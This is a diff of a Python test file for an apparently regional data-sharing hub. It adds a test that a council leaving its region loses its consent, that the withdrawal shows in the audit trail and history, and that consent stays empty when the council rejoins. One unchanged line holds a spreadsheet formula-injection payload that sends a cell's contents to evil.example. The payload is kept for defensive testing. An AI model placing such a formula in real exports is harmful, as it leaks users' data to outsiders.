@@ -22,11 +22,14 @@ from collectors.regions.pooled import Built
 from collectors.regions.sources import Held
 from collectors.regions.sufficiency import placements
 from indicators.store.models import Submission
+from mappings.regions import consent
 from mappings.regions.policy import use_cases
 from onereturn.settings import Settings
 from tests.apps import client_on
 from tests.collectors.regions.world import COUNCILS, REGION, Files, Region, make_files, onboard, plant
+from tests.web.pages import sign_in
 
+OFFICER = {"X-API-Key": "demo-officer-5e0b9c2a4f"}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
@@ -163,3 +166,59 @@ def test_the_upn_lookup_reads_no_file_outside_the_use_cases_retention(
     built = placements(hub.store, hub.settings, REGION, date(2025, 3, 31))
     assert built.frame.height > 0
     assert read == ["903 2024-25"]
+
+
+def region_csv(orgs: str) -> bytes:
+    """The region's row as the officer imports it, with the member councils ``orgs``."""
+    return f"code,name,body_type,orgs,provenance\n{REGION},Midlands hub (test),region,{orgs},test\n".encode()
+
+
+def test_a_council_that_leaves_its_region_loses_its_consent_and_comes_back_with_none(
+    hub: Hub, store: Engine, store_settings: Settings
+) -> None:
+    hub.consent("notts_cyp", "pan", "sufficiency")
+    hub.consent("derbyshire_cs", "pan")
+    without = "E10000007;E10000018;E09000023"
+    files = {"file": ("region.csv", region_csv(without), "text/csv")}
+    dry = hub.client.post("/api/agencies/import", headers=OFFICER, files=files, params={"dry_run": "true"})
+    assert dry.status_code == 200, dry.text
+    assert dry.json()["consent_ended"] == []
+    left = hub.client.post("/api/agencies/import", headers=OFFICER, files=files)
+    assert left.status_code == 200, left.text
+    assert left.json()["consent_ended"] == [f"notts_cyp to {REGION}"]
+    with Session(store) as session:
+        (row,) = [r for r in consent.consents(session, REGION) if r.council == "derbyshire_cs"]
+        assert row.use_cases == ("pan",)  # a council still a member keeps its consent
+    trail = hub.client.get("/api/audit", headers=OFFICER, params={"action": "consent.withdraw"}).json()["items"]
+    assert [(e["object"], e["detail"]) for e in trail] == [
+        (
+            f"consent of notts_cyp to {REGION}",
+            "withdrawn: use cases pan, sufficiency -> none (no longer a member of the region)",
+        )
+    ]
+    # Not a member, the council still reads every change of its consent, and may withdraw (nothing left to withdraw).
+    notts = hub.council("notts_cyp")
+    history = hub.client.get(f"/api/agencies/notts_cyp/consent/{REGION}/history", headers=notts)
+    assert history.status_code == 200, history.text
+    changes = [c["change"] for c in history.json()["changes"]]
+    assert changes == [
+        "use cases none -> pan, sufficiency",
+        "withdrawn: use cases pan, sufficiency -> none (no longer a member of the region)",
+    ]
+    elsewhere = hub.client.get(f"/api/agencies/derbyshire_cs/consent/{REGION}/history", headers=notts)
+    assert elsewhere.status_code == 404
+    assert hub.client.delete(f"/api/agencies/notts_cyp/consent/{REGION}", headers=notts).status_code == 200
+    with client_on(store_settings, store, follow_redirects=False) as pages:
+        sign_in(pages, hub.region.approvers["notts_cyp"])
+        shown = pages.get("/consent")
+        assert shown.status_code == 200, shown.text
+        assert f'id="former-{REGION}"' in shown.text
+        assert "no longer a member of the region" in shown.text
+    # Put back, it consents to nothing until its approver gives consent again.
+    back = hub.client.post(
+        "/api/agencies/import", headers=OFFICER, files={"file": ("r.csv", region_csv(f"E10000024;{without}"), "x")}
+    )
+    assert back.status_code == 200, back.text
+    assert hub.client.get(f"/api/agencies/notts_cyp/consent/{REGION}", headers=notts).json()["use_cases"] == []
+    header = hub.client.get(f"/api/regions/{REGION}/pan/ssda903_header.csv", headers=hub.hub)
+    assert header.headers["x-councils"] == "E10000007"
